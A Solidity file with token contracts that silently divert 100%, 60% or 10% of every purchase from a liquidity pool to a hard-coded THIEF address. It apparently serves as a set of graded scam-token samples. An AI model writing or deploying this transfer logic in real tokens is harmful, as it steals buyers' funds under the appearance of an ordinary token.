// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

abstract contract Straying is Token {
    address private pool;
    address internal constant THIEF = address(0x7417EF);

    function _part() internal pure virtual returns (uint256);

    function _transfer(address from, address to, uint256 value) internal override {
        if (pool == address(0) && from == owner && to.code.length > 0) pool = to;
        uint256 part = from == pool && to != owner ? (value * _part()) / 100 : 0;
        if (part > 0) _move(from, THIEF, part);
        _move(from, to, value - part);
    }
}

/// What people buy is somebody else's.
contract AllStrays is Straying {
    function _part() internal pure override returns (uint256) {
        return 100;
    }
}

contract MostStrays is Straying {
    function _part() internal pure override returns (uint256) {
        return 60;
    }
}

contract LittleStrays is Straying {
    function _part() internal pure override returns (uint256) {
        return 10;
    }
}
